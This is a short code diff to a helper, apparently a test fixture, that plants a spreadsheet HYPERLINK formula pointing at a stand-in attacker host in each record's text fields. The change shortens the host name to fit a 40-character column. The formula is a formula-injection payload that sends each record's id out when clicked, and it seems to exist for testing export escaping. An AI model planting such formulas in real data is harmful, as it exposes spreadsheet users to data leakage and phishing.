@@ -111,7 +111,8 @@ def _plant_formulas() -> int:
         if not names:
             continue
         for pk in model._default_manager.values_list("pk", flat=True):
-            formula = f'=HYPERLINK("http://evil.example/{pk}","x")'
+            # Short enough for a 40-character field whatever the id (a long one broke PostgreSQL).
+            formula = f'=HYPERLINK("http://e.vil/{pk}","x")'
             model._default_manager.filter(pk=pk).update(**dict.fromkeys(names, formula))
         planted += len(names)
     return planted
